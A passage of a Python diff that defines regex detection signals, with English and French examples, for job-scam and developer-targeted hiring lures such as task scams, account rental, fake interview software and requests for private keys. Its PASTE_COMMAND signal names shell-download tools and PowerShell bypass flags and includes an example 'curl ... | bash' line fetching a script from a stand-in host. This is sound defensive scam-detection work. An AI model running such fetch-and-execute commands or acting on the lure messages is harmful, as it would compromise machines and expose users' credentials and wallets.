+            r"|ratings|missions)\b",
+            r"\b[0-9]{2} (?:tasks|orders|ratings) (?:a|per|each) (?:day|set)\b",
+            r"\b(?:top[- ]?up|recharge|reload|fund|deposit (?:into|to)) (?:your |the )?(?:task "
+            r"|work"
+            r" )?(?:account|balance|wallet)\b|\bnegative balance\b",
+            r"\bcommissions? (?:per|on each|for each|for every|of [0-9]{1,2} ?% (?:on|per))"
+            r" (?:task|order|rating|review|like|click|product)\b",
+            r"\b(?:unlock|reset) (?:the |your )?(?:next |new |more )?(?:tasks?|orders?|set|level"
+            r"|earnings|withdrawals?)\b",
+            r"\bwithdraw (?:your )?(?:earnings|commissions?|profits?|balance)\b",
+            # French
+            r"\b(?:noter|notez|evaluer|evaluez|liker|likez|aimer|booster|optimiser|commenter)"
+            r" (?:des |les |nos )?(?:produits|applications|applis|videos|publications|posts|hotels"
+            r"|restaurants|commandes|chaines)\b",
+            r"\blaisser des avis\b|\bavis (?:en ligne )?remuneres?\b",
+            r"\boptimis(?:eur|ation|atrice) d'(?:applications?|applis?)\b",
+            r"\b(?:recharger|rechargez|alimenter|alimentez|crediter|creditez) (?:votre |ton |le )?"
+            r"(?:compte|solde|cagnotte|portefeuille)\b",
+            r"\bcommissions? (?:par|pour chaque|sur chaque) (?:tache|commande|avis|like|clic"
+            r"|mission)\b",
+            r"\bcagnotte\b",
+            r"\bdebloquer (?:les |la |vos |tes )?(?:taches?|missions?|retraits?|gains)\b",
+        )
+    },
+    examples=(
+        E("Simple job: rate products online and earn commission per task, paid in USDT.",
+          spans=("rate products", "commission per task")),
+        E("Complete a set of 40 tasks, then top up your account to unlock the next set.",
+          spans=("Complete a set of 40 tasks", "top up your account", "unlock the next set")),
+        E("Le travail : liker des vidéos et noter des produits, commission par tâche.",
+          lang="fr", spans=("liker des vidéos", "noter des produits", "commission par tâche")),
+    ),
+    counterexamples=(
+        E("We're hiring a product manager to own our ratings and reviews platform."),
+        E("Poste de chef de produit pour notre application mobile, CDI.", lang="fr"),
+    ),
+)
+
+ACCOUNT_RENTAL = PatternSignal(
+    name="account_rental",
+    description="Proposes renting or sharing the candidate's freelance or developer account or "
+    "identity, or someone else sitting interviews in the candidate's name.",
+    category="fraud",
+    polarity="risk",
+    source="F12: The Coding Den PSA (Upwork account sharing); TechSparx; Publish0x; Vadim "
+    "Kravcenko (interviews-as-a-service); US-ROK advisory on DPRK IT workers (IC3 PSA231018); "
+    "KnowBe4 fake-hire case",
+    patterns={
+        "message": (
+            r"\b(?:rent|lend|borrow|share|buy|lease|use|using|access) (?:out )?(?:your|an|a|my)"
+            r" (?:(?:verified|aged|old|us|us-based|american|european|personal|active)\s){0,2}"
+            r"(?:upwork|fiverr|freelancer|toptal|linkedin|github|payoneer|stripe|malt|developer"
+            r"|freelance|indeed) (?:account|accounts|profile)\b",
+            r"\baccount (?:sharing|rental|renting|lending|partnership)\b",
+            r"\b(?:rent|lend) (?:us |me )?your (?:account|profile|identity|name)\b",
+            r"\b(?:monthly|weekly|fixed) (?:fee|payment|rent|income) for (?:your|the use of your"
+            r"|using your) (?:account|profile|identity|name)\b",
+            r"\b(?:attend|take|do|handle|pass|join) (?:the |your )?(?:technical )?(?:interviews?"
+            r"|calls?|meetings?) (?:for you|on your behalf|in your name|as you|under your name)\b",
+            r"\b(?:interviews?[- ]as[- ]a[- ]service|proxy interviews?|interview proxy|stand-in"
+            r" interviews?)\b",
+            r"\b(?:host|keep|set up|receive) (?:a |our |the |some )?(?:company )?(?:laptops?"
+            r"|computers?|devices?) (?:at|in) your (?:home|house|place|apartment)\b",
+            # French
+            r"\b(?:louer|preter|partager|utiliser|louez|pretez) (?:votre|ton) compte (?:upwork"
+            r"|fiverr|malt|linkedin|freelance|github|indeed)\b",
+            r"\blocation de (?:votre |ton )?(?:compte|comptes|profil)\b",
+            r"\b(?:passer|faire|passe|passerons) (?:les |l'|vos )?entretiens? (?:a votre place|a ta"
+            r" place|en votre nom|en ton nom|pour vous)\b",
+        )
+    },
+    examples=(
+        E("We'd like to rent your Upwork account for $300/month, we do all the work.",
+          spans=("rent your Upwork account",)),
+        E("Our engineer will attend the interviews on your behalf.",
+          spans=("attend the interviews on your behalf",)),
+        E("Je vous propose de louer votre compte Malt contre une commission.", lang="fr",
+          spans=("louer votre compte Malt",)),
+    ),
+    counterexamples=(
+        E("Please sign in with your GitHub account to access the take-home instructions."),
+        E("Connectez-vous avec votre compte LinkedIn pour postuler.", lang="fr"),
+    ),
+)
+
+PREMIUM_RATE_NUMBER = PatternSignal(
+    name="premium_rate_number",
+    description="Gives a premium-rate or pay-per-call number for an interview (UK 09/087/070, "
+    "French 081/082/089, US 1-900).",
+    category="contact",
+    polarity="risk",
+    source="F13: Get Safe Online leaflet; SAFERjobs via WorkSmart; Pôle emploi via Europe 1 "
+    "(numéros surtaxés)",
+    patterns={
+        "message": (
+            r"(?:\+44 ?\(?0?\)? ?|\b0)(?:9[0-9]{2}|87[0-3]"
+            r"|70[0-9])[ .\-]?[0-9]{3}[ .\-]?[0-9]{3,4}\b",
+            r"(?:\+33 ?\(?0?\)? ?|\b0 ?)8 ?[129][0-9](?:[ .\-]?[0-9]{2}){3}\b",
+            r"\b1[ .\-]?(?:900|976)[ .\-]?[0-9]{3}[ .\-]?[0-9]{4}\b",
+            r"\b(?:premium[- ]rate|pay[- ]per[- ]call)\b|\bnumeros? surtaxes?\b",
+        )
+    },
+    examples=(
+        E("Call 0909 879 0123 for your telephone interview.", spans=("0909 879 0123",)),
+        E("Pour l'entretien téléphonique, appelez le 08 99 12 34 56.", lang="fr",
+          spans=("08 99 12 34 56",)),
+    ),
+    counterexamples=(
+        E("Call me on 020 7946 0321 to book the interview.", note="London landline"),
+        E("Appelez notre numéro vert 0 800 12 34 56.", lang="fr", note="free number"),
+    ),
+)
+
+# --------------------------------------------------------------------------------------------
+# developer lures
+# --------------------------------------------------------------------------------------------
+RUN_OUR_CODE = PatternSignal(
+    name="run_our_code",
+    description="Asks the candidate to install and run, or review, debug or extend, the "
+    "sender's existing code: clone the repo, npm install, fix a bug in our project.",
+    category="lure",
+    polarity="risk",
+    source="L1/L2: Unit 42 Feb 2026; FBI IC3 PSA Sept 2024 ('debugging exercise'); GitHub Jul "
+    "2023; Socket; Phylum; dev-trap-dossiers; alien45; Emilian Bold; Dan Heskett; xndbogdan; "
+    "roman.pt; Microsoft Feb 2026",
+    patterns={"message": d.RUN_CODE_PATTERNS},
+    examples=(
+        E("Please clone the repo, run npm install and npm start before our call.",
+          spans=("clone the repo", "npm install", "npm start")),
+        E("Take a look at our codebase and fix the bugs in our project, it has deprecated "
+          "modules.", spans=("Take a look at our codebase", "fix the bugs in our project",
+                             "deprecated modules")),
+        E("Clonez le dépôt et installez les dépendances avant l'entretien.", lang="fr",
+          spans=("Clonez le dépôt", "installez les dépendances")),
+    ),
+    counterexamples=(
+        E("After our call you'll get a 2-hour HackerRank exercise."),
+        E("Write a small CLI in any language, in your own repository, and send us the link."),
+        E("Après notre échange, un exercice de code à faire chez vous, à rendre sous une "
+          "semaine.", lang="fr"),
+    ),
+)
+
+ADHOC_CODE_HOSTING = CallableSignal(
+    name="adhoc_code_hosting",
+    description="Delivers the code to run through ad-hoc hosting (a Bitbucket, GitLab or "
+    "personal GitHub repo, a file-sharing link, a private-repo invite), not the company's own.",
+    category="lure",
+    polarity="risk",
+    source="L3 (only with L1/L2): alien45; Emilian Bold; dev-trap-dossiers; xndbogdan; Jamf via "
+    "The Cyber Guy; GitLab bans; GitHub 2023 (repository invitations)",
+    detector=d.adhoc_code_hosting,
+    prefilter=(("message", d.CODE_HOST_PREFILTER, False),),
+    reads=("message", "sender_company", "sender_company_url"),
+    examples=(
+        E("Clone https://bitbucket.org/defi-team7/dex-mvp and run npm install before our call.",
+          spans=("https://bitbucket.org/defi-team7/dex-mvp",)),
+        E("I'll invite you to our private repo, please fix the bugs in our project.",
+          spans=("invite you to our private repo",)),
+        E("Clonez le dépôt gitlab.com/proj-web3/app et lancez le projet.", lang="fr",
+          spans=("gitlab.com/proj-web3/app",)),
+    ),
+    counterexamples=(
+        E("Our open-source code is at github.com/helixq/sdk; clone the repo if curious.",
+          fields={"sender_company_url": "https://helixq.com"},
+          note="the company's own organisation"),
+        E("Here is my GitHub: github.com/jdoe, looking forward to our call."),
+        E("Notre code est sur gitlab.com/atelierlumen ; clonez le dépôt si vous voulez.",
+          lang="fr", fields={"sender_company": "Atelier Lumen"}),
+    ),
+)
+
+INTERVIEW_SOFTWARE_DOWNLOAD = PatternSignal(
+    name="interview_software_download",
+    description="Asks to download, install or update interview or meeting software, a camera "
+    "driver or a browser to join the interview, instead of a standard meeting link.",
+    category="lure",
+    polarity="risk",
+    source="L4: FBI IC3 PSA Sept 2024; LinkedIn VP post; SentinelOne 'Ferret'; Sekoia "
+    "ClickFake Interview; Moonstone Sleet (trojanized PuTTY); ALTA CISO note",
+    patterns={
+        "message": (
+            near(r"\b(?:download|install|update|upgrade|reinstall|run)\b",
+                 r"\b(?:interview|meeting|video|camera|webcam|microphone|mic|audio|conferencing"
+                 r"|call|screen[- ]?sharing|vpn) ?(?:app|application|software|client|tool|plugin"
+                 r"|plug-in|extension|driver|drivers|fix|patch|update|program|installer)\b",
+                 r"[^.!?]{0,30}"),
+            r"\b(?:camera|webcam|microphone|mic|audio|video) (?:driver|drivers)\b",
+            r"\b(?:update|upgrade|reinstall) (?:your )?(?:chrome|zoom|teams|browser|webex|skype"
+            r"|google meet)\b",
+            r"\b(?:camera|webcam|microphone|mic) (?:is |was )?(?:not (?:detected|working|found)"
+            r"|isn't (?:detected|working)|error|access (?:error|blocked|denied)|blocked"
+            r"|(?:didn't|didnt|doesn't|doesnt|did not|does not|won't|wont|isnt) (?:work|load|start"
+            r"|connect))\b",
+            r"\b(?:our|a) (?:own |custom |proprietary |secure |encrypted |dedicated )(?:interview"
+            r"|meeting|video|conferencing|assessment) (?:app|application|software|platform|client"
+            r"|tool)\b",
+            # French
+            r"\b(?:telecharge[rz]?|installe[rz]?|mettez a jour|mettre a jour|mets a jour)"
+            r" (?:notre |le |la |l'|votre |ton )?(?:logiciel|application|appli|outil|client|pilote"
+            r"|driver|plugin|extension|navigateur|chrome|zoom)(?: (?:d'entretien|de visio"
+            r"(?:conference)?|de reunion|de la camera|video|audio|camera|webcam|d'entrevue))?\b",
+            r"\bpilotes? (?:de la |de )?(?:camera|webcam|micro)\b",
+            r"\b(?:camera|webcam|micro) (?:non (?:detectee?|reconnue?)|introuvable|bloquee?)\b",
+        )
+    },
+    examples=(
+        E("Please download our interview app before the call.",
+          spans=("download our interview app",)),
+        E("Your camera isn't detected, update the camera driver from this link.",
+          spans=("camera isn't detected", "camera driver")),
+        E("Téléchargez notre logiciel d'entretien et mettez à jour le pilote de la caméra.",
+          lang="fr", spans=("Téléchargez notre logiciel d'entretien", "pilote de la caméra")),
+    ),
+    counterexamples=(
+        E("Join via this Teams link."),
+        E("Here's the Zoom link for Tuesday: https://zoom.us/j/5551234"),
+        E("Voici le lien Google Meet pour notre entretien.", lang="fr"),
+    ),
+)
+
+PASTE_COMMAND = PatternSignal(
+    name="paste_command",
+    description="Asks to paste a command into a terminal or the Run box: curl piped to a "
+    "shell, PowerShell, 'press Win+R and paste' (ClickFix / ClickFake).",
+    category="lure",
+    polarity="risk",
+    source="L5: Sekoia ClickFake Interview (March 2025); FBI IC3 PSA Sept 2024; "
+    "dev-trap-dossiers (curl | bash in .vscode/tasks.json)",
+    patterns={
+        "message": (
+            r"\b(?:curl|wget)\b[^|]{0,200}\| ?(?:sudo )?(?:ba|z)?sh\b",
+            r"\b(?:powershell|pwsh)(?:\.exe)?(?: -[a-z]+(?: [a-z0-9]+)?){0,4} -(?:e|enc"
+            r"|encodedcommand"
+            r"|c|command|w hidden|windowstyle hidden|ep bypass|executionpolicy bypass)\b",
+            r"\b(?:iex|invoke-expression|invoke-webrequest|iwr|mshta|certutil -urlcache|bitsadmin"
+            r"|regsvr32|rundll32)\b",
+            r"\b(?:win|windows|windows key) ?\+ ?r\b|\b(?:cmd|command) ?\+ ?space\b",
+            r"\b(?:copy|paste|copy-paste|copy and paste|copy & paste|type|run|enter|execute)"
+            r" (?:this|the following|the|below|that|these)? ?(?:command|commands|script|line|code"
+            r"|snippet)?(?: below)? ?(?:in|into|in to|to) (?:your |the |a )?(?:terminal|command"
+            r" prompt|cmd|powershell|run dialog|run box|shell|console|bash)\b",
+            r"\bbase64 (?:-d|--decode)\b|\b(?:bash|sh) -c\b",
+            # French
+            r"\b(?:copie[zr]?|colle[zr]?|copie[zr]?-colle[zr]?|copier-coller|tape[zr]?|execute[zr]?"
+            r"|lance[zr]?) (?:cette|la|une|ces|les) (?:commandes?|lignes?|instructions?)"
+            r" (?:dans|sur) (?:le |la |votre |ton |l')?(?:terminal|invite de commandes?|powershell"
+            r"|console)\b",
+        )
+    },
+    examples=(
+        E("To fix the camera, run curl -s https://cam-fix.example/install.sh | bash",
+          spans=("curl -s https://cam-fix.example/install.sh | bash",)),
+        E("Press Win+R and paste the command I sent.", spans=("Win+R",)),
+        E("Copiez-collez cette commande dans le Terminal pour activer la caméra.", lang="fr",
+          spans=("Copiez-collez cette commande dans le Terminal",)),
+    ),
+    counterexamples=(
+        E("You'll use the terminal a lot in this DevOps role: bash, Terraform, Kubernetes."),
+        E("Le poste demande une bonne maîtrise du terminal et de PowerShell.", lang="fr"),
+    ),
+)
+
+_WEB3 = (
+    r"\b(?:web ?3(?:\.0)?|defi|de-fi|dapps?|dex|blockchain|crypto(?:currency|currencies)?|nfts?"
+    r"|metaverse|play[- ]to[- ]earn|p2e|gamefi|staking|smart contracts?|solidity|erc-?20"
+    r"|erc-?721|tokeni[sz]ation|tokenomics|ethereum|solana|crypto wallets?|yield farming"
+    r"|liquidity pools?|on-chain|onchain|memecoins?|airdrops?|rwa tokeni[sz]ation)\b",
+    r"\b(?:plateforme defi|projet web3|mvp blockchain|chaine de blocs|cryptomonnaies?"
+    r"|cryptoactifs?|jetons? non fongibles?|contrats? intelligents?)\b",
+)
+WEB3_PITCH = PatternSignal(
+    name="web3_pitch",
+    description="The approach or the target is about Web3, crypto or DeFi: a context that "
+    "developer-targeted lures favour, and where genuine hiring is also common.",
+    category="context",
+    polarity="context",
+    source="L6 (context prior, like M1): FBI IC3 PSA Sept 2024; Unit 42; dev-trap-dossiers; "
+    "xndbogdan; SethTenenbaum gist; Moonstone Sleet; Sapphire Sleet; MetaMask crypto-job page",
+    patterns={
+        "message": _WEB3,
+        "target_headline": (*_WEB3, r"\bnode\.?js\b"),
+    },
+    examples=(
+        E("We're building a DeFi platform with staking and need a lead for our Web3 MVP.",
+          spans=("DeFi", "staking", "Web3")),
+        E("Hi", fields={"target_headline": "Solidity / Node.js developer"},
+          spans=("Solidity", "Node.js")),
+        E("Nous lançons une plateforme DeFi et un projet Web3.", lang="fr",
+          spans=("plateforme DeFi",)),
+    ),
+    counterexamples=(
+        E("We're hiring a backend engineer for our payments API, salary €80-95k."),
+        E("Poste de développeur Java dans une banque, CDI.", lang="fr"),
+    ),
+)
+
+ASSESSMENT_PORTAL = CallableSignal(
+    name="assessment_portal",
+    description="Sends the candidate to a skills test on a portal that is neither a known "
+    "assessment platform nor the company's own domain, or asks to register there.",
+    category="lure",
+    polarity="risk",
+    source="L8: Microsoft on Sapphire Sleet via Computing and Ticker (fake skills-assessment "
+    "portals, password-protected, lures sent on LinkedIn)",
+    detector=d.assessment_portal,
+    prefilter=(("message", d.ASSESS_PREFILTER, False),),
+    reads=("message", "sender_company_url"),
+    examples=(
+        E("Complete the skills assessment at https://talent-eval-hub.io/start today.",
+          spans=("skills assessment", "https://talent-eval-hub.io/start")),
+        E("Register an account on our portal to start the technical test.",
+          spans=("technical test", "Register")),
+        E("Passez le test technique sur evaluation-dev-carriere.com avant vendredi.", lang="fr",
+          spans=("test technique", "evaluation-dev-carriere.com")),
+    ),
+    counterexamples=(
+        E("The coding test is on HackerRank: https://www.hackerrank.com/test/abc123"),
+        E("Take the technical test at careers.helix-quantum.io/test",
+          fields={"sender_company_url": "https://helix-quantum.io"}),
+        E("Le test technique se passe sur Codility : https://app.codility.com/test/x", lang="fr"),
+    ),
+)
+
+SECRETS_ON_DEVICE = PatternSignal(
+    name="secrets_on_device",
+    description="Asks to run the test on a work device or with secrets present: put a private "
+    "key, seed phrase or API keys in .env, connect a wallet, use the work laptop.",
+    category="lure",
+    polarity="risk",
+    source="L9: FBI IC3 PSA Sept 2024 (code on company devices); The Record / ESET; "
+    "SethTenenbaum gist (.env asks for RELAYER_PRIVATE_KEY, JWT_SECRET); rtidx",
+    patterns={
+        "message": (
+            r"\b(?:put|paste|add|enter|insert|fill in|set|provide|copy|export|send|share|use|type)"
+            r" (?:in )?(?:your |the |a )?(?:own |real |actual |personal )?(?:wallet'?s? "
+            r"|metamask )?"
+            r"(?:private keys?|secret keys?|seed phrase|recovery phrase|secret recovery phrase"
+            r"|mnemonic|api keys?|aws (?:keys?|credentials)|access keys?|credentials|secrets?"
+            r"|tokens?)\b",
+            near(r"\b(?:private keys?|seed phrase|recovery phrase|mnemonic|api keys?|secrets?"
+                 r"|credentials|tokens?)\b", r"(?:\bin|\binto|\bto) (?:the |your |a )?\.env\b"),
+            r"\bconnect (?:your |a )?(?:own |real |personal )?(?:metamask |phantom |crypto |web3 )?"
+            r"wallet\b",
+            r"\b(?:relayer_)?private_key\b|\bjwt_secret\b|\bseed phrase\b",
+            r"\b(?:use|on|from|using|with) your (?:work|office|company|corporate|employer'?s?)"
+            r" (?:laptop|computer|machine|device|pc|workstation|mac)\b",
+            # French
+            near(r"\b(?:mettez|mettre|collez|coller|entrez|saisissez|renseignez|ajoutez|fournissez"
+                 r"|indiquez)\b",
+                 r"\b(?:cle privee|cles privees|phrase de recuperation|phrase secrete|cles? api"
+                 r"|identifiants)\b", r"[^.!?]{0,30}"),
+            r"\bconnecte[zr]? (?:votre |ton )?(?:portefeuille|wallet)\b",
+            r"\b(?:sur|depuis|avec) (?:votre|ton) (?:ordinateur|poste|pc|portable)"
+            r" (?:professionnel|de travail|pro|du bureau)\b",
+        )
+    },
+    examples=(
+        E("Put your private key and API keys in .env to test the relayer.",
+          spans=("Put your private key",)),
+        E("then connect your MetaMask wallet and run it on your work laptop",
+          spans=("connect your MetaMask wallet", "on your work laptop")),
+        E("Renseignez votre clé privée dans le fichier .env puis connectez votre portefeuille.",
+          lang="fr", spans=("Renseignez votre clé privée", "connectez votre portefeuille")),
+    ),
+    counterexamples=(
+        E("You'll design key-management services for our security team."),
+        E("Vous concevrez la gestion des clés pour notre équipe sécurité.", lang="fr"),
+    ),
+)
+
+# --------------------------------------------------------------------------------------------
+# benign counter-signals (RED-FLAGS 1f)
+# --------------------------------------------------------------------------------------------
+COMPANY_PAYS_COSTS = PatternSignal(
+    name="company_pays_costs",
+    description="Money flows to the candidate only: the company ships the equipment, sponsors "
+    "the visa, pays relocation or states that candidates never pay fees.",
+    category="benign",
+    polarity="benign",
+    source="F4/F5 (disambiguation): direction-of-money rule in FTC, LinkedIn Help and Pôle "
+    "emploi; RED-FLAGS 1f",
+    patterns={
+        "message": (
+            r"\bwe(?:'ll| will| can| would)? (?:ship|send|courier|post|deliver|provide|give|issue)"
+            r" (?:you )?(?:with )?(?:a |your |the |all )?(?:company |work |new |required )?"
+            r"(?:laptop|equipment|macbook|computer|kit|hardware|devices?)\b",
+            r"\bcompany[- ](?:provided|issued|supplied|paid) (?:laptop|equipment|hardware"
+            r"|computer|devices?)\b",
+            r"\bwe(?:'ll| will| can)? (?:sponsor|offer|provide|support|cover|handle|pay for)"
+            r" (?:your |the |all )?(?:visas?|work permits?|relocation|sponsorship|immigration"
+            r"|moving costs)\b",
+            r"\bvisa sponsorship (?:is )?(?:available|provided|offered|included)\b",
+            r"\b(?:relocation|moving) (?:package|support|assistance|allowance|bonus)\b",
+            r"\b(?:fees?|costs?|expenses?) (?:are |is |will be )?(?:covered|paid|borne|reimbursed)"
+            r" by (?:us|the company|the employer|our company)\b",
+            r"\b(?:never|don't|do not|will not|won't) (?:charge|ask) (?:candidates|applicants|you)"
+            r" (?:for )?(?:any )?(?:fees?|money|payment)\b|\bno (?:fees?|cost|charge) (?:to|for)"
+            r" (?:you|candidates|applicants)\b",
+            # French
+            r"\b(?:nous )?(?:vous )?(?:fournissons|fournirons|envoyons|enverrons|livrerons"
+            r"|pretons|expedions) (?:un |le |votre |du |tout le )?(?:ordinateur|pc|materiel"
+            r"|equipement|portable)\b",
+            r"\b(?:ordinateur|materiel|equipement|pc) (?:portable )?(?:fourni|fournis|offert)\b",
+            r"\b(?:nous )?(?:parrainons|sponsorisons|prenons en charge|finan[cç]ons)"
+            r" (?:votre |le |les |la )?(?:visas?|demenagement|relocalisation|permis de travail)\b",
+            r"\b(?:frais|couts) (?:de |d')?(?:visa|demenagement|relocalisation|dossier)? ?(?:sont"
+            r" |seront )?pris en charge par (?:nous|l'entreprise|la societe|l'employeur)\b",
+            r"\b(?:aucuns? frais|gratuit) pour (?:vous|le candidat|les candidats)\b"
+            r"|\bne (?:demandons|demandera|facturons) jamais\b",
+        )
+    },
+    examples=(
+        E("We'll courier you a company laptop before day one.", spans=("courier you a company "
+                                                                       "laptop",)),
+        E("We sponsor visas for this role.", spans=("We sponsor visas",)),
+        E("Nous vous fournirons un ordinateur ; le déménagement est pris en charge par "
+          "l'entreprise.", lang="fr", spans=("fournirons un ordinateur",)),
+    ),
+    counterexamples=(
+        E("You will need to buy the laptop from our vendor first."),
+        E("Vous devez acheter le matériel chez notre fournisseur.", lang="fr"),
+    ),
+)
+
+STANDARD_ASSESSMENT_PLATFORM = PatternSignal(
+    name="standard_assessment_platform",
+    description="The technical test runs on a known assessment platform or is written by the "
+    "candidate in their own repository, typically after a first call.",
+    category="benign",
+    polarity="benign",
+    source="L1-L3 (disambiguation): Source Allies interview repo; tcashcroft take-home brief; "
+    "rtidx; RED-FLAGS 1f",
+    patterns={
+        "message": (
+            r"\b(?:hackerrank|hacker rank|codility|coderpad|codesignal|testgorilla|hackerearth"
+            r"|leetcode|devskiller|karat|codingame|codesubmit|testdome|github classroom"
+            r"|codespaces)\b",
+            near(r"\b(?:take-home|take home|home assignment|coding exercise|technical exercise"
+                 r"|coding test|technical test|exercise|assignment)\b",
+                 r"\b(?:after|following) (?:our|the|a|your) (?:first |initial |intro |introductory"
+                 r" |recruiter |screening |phone |video )?(?:call|chat|conversation|interview"
+                 r"|screen)\b"),
+            near(r"\b(?:after|following) (?:our|the|a|your) (?:first |initial |intro |introductory"
+                 r" |recruiter |screening |phone |video )?(?:call|chat|conversation|interview"
+                 r"|screen)\b",
+                 r"\b(?:take-home|take home|home assignment|coding exercise|technical exercise"
+                 r"|coding test|technical test|exercise|assignment)\b"),
+            r"\bin your own (?:public |private )?(?:repo|repository|github)\b",
+            r"\b(?:submit|share|send) (?:us )?(?:a link to )?your (?:solution|code|repo"
+            r"|repository|pull request)\b",
+            # French
+            r"\b(?:exercice|test) (?:technique |de code )?(?:a la maison|a faire chez (?:vous|soi"
+            r"|toi))\b",
+            near(r"\bapres (?:notre|un|le|votre) (?:premier )?(?:appel|echange|entretien)\b",
+                 r"\b(?:test|exercice|cas pratique)\b"),
+            r"\b(?:deposez|partagez|envoyez|rendez)(?:-nous| nous)? (?:le lien (?:vers|de) )?"
+            r"(?:votre|ta) (?:solution|code|depot)\b",
+        )
+    },
+    examples=(
+        E("After our call you'll get a 2-hour HackerRank exercise.",
+          spans=("HackerRank", "After our call you'll get a 2-hour HackerRank exercise")),
+        E("Build it in your own repository and submit your solution within a week.",
+          spans=("in your own repository", "submit your solution")),
+        E("Après notre premier échange, un test technique sur Codility.", lang="fr",
+          spans=("Codility",)),
+    ),
+    counterexamples=(
+        E("Clone our repo and run npm install before the call."),
+        E("Clonez notre dépôt et lancez le projet.", lang="fr"),
+    ),
+)
+
+VIDEO_INTERVIEW_OFFERED = PatternSignal(
+    name="video_interview_offered",
+    description="Offers a phone, video or in-person interview or call, or a standard meeting "
+    "link (Teams, Zoom, Google Meet, Webex).",
+    category="benign",
+    polarity="benign",
+    source="F8/L4 (disambiguation): BBB, vsafe.gov (phone or video interview offered); ALTA "
+    "CISO note (standard meeting links); RED-FLAGS 1f",
+    patterns={
+        "message": (
+            r"\b(?:video|phone|voice|telephone|zoom|teams|google meet|webex|in-person|in person"
+            r"|face-to-face|face to face|onsite|on-site|virtual) (?:call|interview|chat|meeting"
+            r"|conversation|screen|screening)s?\b",
+            r"\b(?:call|interview|meet|chat|talk|speak) (?:by|over|on|via|through) (?:the )?"
+            r"(?:phone|video|zoom|teams|microsoft teams|google meet|webex)\b",
+            r"\b(?:teams|zoom|webex|google meet|meet) (?:link|invite|invitation|meeting)\b",
+            r"\bmeet\.google\.com|\bzoom\.us/|\bteams\.microsoft\.com|\bwebex\.com\b",
+            r"\b(?:schedule|book|set up|arrange|have|hop on|jump on) (?:a |an )?(?:quick |short"
+            r" |brief |first |initial |intro |introductory |[0-9]{2}[- ]?min(?:ute)? )?(?:call"
+            r"|chat)\b",
+            # French
+            r"\b(?:entretien|appel|echange|rendez-vous|rdv|reunion) (?:en |par )?(?:visio"
+            r"|visioconference|video|telephonique|telephone|presentiel|personne|physique)\b",
+            r"\b(?:sur|via|par) (?:teams|zoom|google meet|webex)\b",
+            r"\blien (?:teams|zoom|google meet|meet|webex|de visio)\b",
+            r"\b(?:planifier|organiser|caler|fixer|programmer) (?:un |une )?(?:appel|echange"
+            r"|entretien|visio|call)\b",
+        )
+    },
+    examples=(
+        E("Join via this Teams link.", spans=("Teams link",)),
+        E("Can we schedule a call next week?", spans=("schedule a call",)),
+        E("Je vous propose un entretien en visio mardi.", lang="fr",
+          spans=("entretien en visio",)),
+    ),
+    counterexamples=(
+        E("The interview will be held by text on Telegram."),
+        E("L'entretien se fera par écrit sur WhatsApp.", lang="fr"),
+    ),
+)
+
+#: The signals of this module, in the order they are appended to the registry.
+FRAUD_AND_LURE_SIGNALS = (
+    OFFER_WITHOUT_INTERVIEW,
+    LOW_SKILL_REMOTE_ROLE,
+    EASY_MONEY,
+    PAY_TO_WORK,
+    CHEQUE_FORWARDING,
+    MONEY_MULE,
+    EARLY_IDENTITY_REQUEST,
+    CHAT_ONLY_INTERVIEW,
+    FREEMAIL_COMPANY_CONTACT,
+    TASK_SCAM,
+    ACCOUNT_RENTAL,
+    PREMIUM_RATE_NUMBER,
+    RUN_OUR_CODE,
+    ADHOC_CODE_HOSTING,
+    INTERVIEW_SOFTWARE_DOWNLOAD,
+    PASTE_COMMAND,
+    WEB3_PITCH,
+    ASSESSMENT_PORTAL,
+    SECRETS_ON_DEVICE,
+    COMPANY_PAYS_COSTS,
+    STANDARD_ASSESSMENT_PLATFORM,
+    VIDEO_INTERVIEW_OFFERED,
+)
+
+#: Message-only pattern signals that the column path runs in groups: one RE2 pass with the union
+#: of a group's patterns, then each signal on the few rows that pass. Groups of six keep RE2's
+#: automaton small (a union of every pattern outgrows it and runs far slower); the tests check
+#: that the column path still equals the span path.
+GATE_GROUPS: tuple[tuple[str, ...], ...] = (
+    ("offer_without_interview", "low_skill_remote_role", "easy_money", "pay_to_work",
+     "cheque_forwarding", "money_mule"),
+    ("early_identity_request", "chat_only_interview", "task_scam", "account_rental",
+     "premium_rate_number", "run_our_code"),
+    ("interview_software_download", "paste_command", "secrets_on_device", "company_pays_costs",
+     "standard_assessment_platform", "video_interview_offered"),
+)
